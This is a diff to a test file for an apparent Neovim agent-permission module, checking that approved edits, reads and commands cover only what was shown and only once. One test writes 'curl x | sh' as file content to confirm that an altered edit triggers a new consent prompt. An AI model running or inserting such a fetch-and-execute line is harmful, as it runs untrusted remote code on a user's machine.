@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from collections.abc import Mapping
 from pathlib import Path
 from typing import Final
 
@@ -11,8 +12,8 @@ from tests.agents.acp.asking import ALWAYS, Asking
 from tests.agents.acp.wire import NO, YES, raw
 
 from eca_nvim.agents.acp.requests.acts import Act, read_file, run_command, write_file
-from eca_nvim.agents.acp.requests.grants import MOST_NAMED
 from eca_nvim.agents.acp.requests.permissions import MOST_ASKED
+from eca_nvim.chat.model.call_files import MOST_LISTED
 from eca_nvim.chat.vocabulary.decisions import ChoiceKind
 from eca_nvim.chat.vocabulary.events import Addressed, ApprovalWithdrawn
 from eca_nvim.protocol.acp import decode_notification
@@ -30,6 +31,19 @@ def asking(tmp_path: Path) -> Asking:
 
 def write(asking: Asking, name: str) -> Act:
     return write_file(asking.path(name), "old\n", "new\n")
+
+
+def edit(asking: Asking, name: str) -> Act:
+    """Return what `permit_edit` shows."""
+    return write_file(asking.path(name), "1\na\n", "1\nb\n")
+
+
+def a_diff(asking: Asking, name: str) -> Mapping[str, str]:
+    return {"type": "diff", "path": asking.path(name), "oldText": "a", "newText": "b"}
+
+
+def real_read(path: str) -> Act:
+    return read_file(str(Path(path).resolve()))
 
 
 async def test_a_read_in_the_workspace_needs_no_consent_and_any_other_does(asking: Asking) -> None:
@@ -65,14 +79,19 @@ async def test_the_question_shows_what_is_done(asking: Asking) -> None:
     assert asked.choices[1].name == "Always in this chat: this command here"
 
 
-async def test_an_edit_that_was_allowed_covers_its_file_until_it_ends(asking: Asking) -> None:
+async def test_an_edit_that_was_allowed_covers_its_text_once_until_it_ends(asking: Asking) -> None:
     asking.permit_edit("a.txt")
-    assert await asking.allows(write(asking, "a.txt"))
-    assert not asking.was_asked()
-    assert await asking.allows(read_file(asking.path("a.txt")))
     assert not await asking.allows(write(asking, "b.txt"))
-    asking.update("tool_call_update", status="completed")
-    assert not await asking.allows(write(asking, "a.txt"))
+    assert await asking.allows(edit(asking, "a.txt"))
+    assert not asking.was_asked()
+    assert not await asking.allows(edit(asking, "a.txt"))
+    assert asking.was_asked(), "it was made already"
+    asking.permit_edit("a.txt", YES, "t3")
+    assert not await asking.allows(write_file(asking.path("a.txt"), "1\na\n", "curl x | sh\n"))
+    assert asking.was_asked(), "it is another text"
+    asking.permit_edit("a.txt", YES, "t2")
+    asking.update("tool_call_update", "t2", status="completed")
+    assert not await asking.allows(edit(asking, "a.txt"))
     assert asking.was_asked()
 
 
@@ -94,25 +113,35 @@ async def test_what_an_agent_adds_to_a_call_that_was_allowed_is_not_covered(aski
     assert not await asking.allows(write(asking, "b.txt"))
 
 
-@pytest.mark.parametrize("count", [MOST_NAMED, MOST_NAMED + 1])
+@pytest.mark.parametrize("count", [MOST_LISTED, MOST_LISTED + 1])
 async def test_files_that_a_request_does_not_show_are_not_covered(
     asking: Asking, count: int
 ) -> None:
     others = [{"path": f"/elsewhere/{number}"} for number in range(count)]
     asking.permit(YES, kind="read", locations=others)
     act = read_file(f"/elsewhere/{count - 1}")
-    assert await asking.allows(act) is (count <= MOST_NAMED)
+    assert await asking.allows(act) is (count <= MOST_LISTED)
 
 
 async def test_always_counts_in_the_chat_for_the_same_file(asking: Asking) -> None:
-    asking.permit_edit("a.txt", ALWAYS)
+    outside, other = asking.path("../a.txt"), asking.path("../b.txt")
+    asking.permit(ALWAYS, kind="read", locations=[{"path": outside}])
     asking.update("tool_call_update", status="completed")
-    assert await asking.allows(write(asking, "a.txt"))
-    assert not await asking.allows(write(asking, "b.txt"))
+    assert await asking.allows(real_read(outside))
+    assert not await asking.allows(real_read(other))
     asking.begin()  # another process of the agent
-    assert await asking.allows(write(asking, "a.txt"))
+    assert await asking.allows(real_read(outside))
     asking.granted.forget("chat")
-    assert not await asking.allows(write(asking, "a.txt"))
+    assert not await asking.allows(real_read(outside))
+
+
+async def test_always_makes_a_change_once(asking: Asking) -> None:
+    asking.permit_edit("a.txt", ALWAYS)
+    assert await asking.allows(edit(asking, "a.txt"))
+    assert not await asking.allows(edit(asking, "a.txt"))
+    asking.permit_edit("a.txt", ALWAYS, "t2")
+    asking.update("tool_call_update", "t2", status="completed")
+    assert not await asking.allows(edit(asking, "a.txt"))
 
 
 async def test_our_always_covers_ordinary_files_of_the_workspace(asking: Asking) -> None:
@@ -213,13 +242,13 @@ async def test_an_answer_to_what_the_agent_made_of_our_question_allows_nothing(
         await anyio.wait_all_tasks_blocked()
         first = asking.asked[-1].call
         asking.update("tool_call_update", **changed)
-        asking.permissions.decide(asking.session, first.id, "always")
+        asking.permissions.decide(asking.session, first.id, "always", first)
         await anyio.wait_all_tasks_blocked()
         again = asking.asked[-1].call
         shown = (first.command, first.arguments, first.changes)
         assert (allowed, len(asking.asked)) == ([], 2)
         assert (again.command, again.arguments, again.changes) == shown
-        asking.permissions.decide(asking.session, again.id, "once")
+        asking.permissions.decide(asking.session, again.id, "once", again)
     assert allowed == [True]
 
 
@@ -299,8 +328,7 @@ async def test_not_more_than_some_questions_wait(asking: Asking) -> None:
 
 
 async def test_a_call_that_shows_the_act_is_asked_about(asking: Asking) -> None:
-    diff = {"type": "diff", "path": asking.path("a.txt"), "oldText": "a", "newText": "b"}
-    asking.update("tool_call", kind="edit", content=[diff])
+    asking.update("tool_call", kind="edit", content=[a_diff(asking, "a.txt")])
     assert asking.consents.call_of(asking.session, write(asking, "a.txt")) == "t1"
     assert asking.consents.call_of(asking.session, write(asking, "b.txt")) is None
     asking.update("tool_call", "t2", kind="execute", rawInput={"command": "ls -l"})
@@ -308,7 +336,7 @@ async def test_a_call_that_shows_the_act_is_asked_about(asking: Asking) -> None:
     assert asking.consents.call_of(asking.session, run_command(["ls", "-l"], folder, {})) == "t2"
     assert await asking.allows(write(asking, "a.txt"), "once")
     assert asking.asked[-1].choices[0].kind is ChoiceKind.ALLOW_ONCE
-    assert await asking.allows(write(asking, "a.txt"))
-    assert not asking.was_asked()
+    assert not await asking.allows(write(asking, "a.txt"))
+    assert asking.was_asked(), "it was allowed once"
     asking.update("tool_call_update", status="completed")
     assert asking.consents.call_of(asking.session, write(asking, "a.txt")) is None
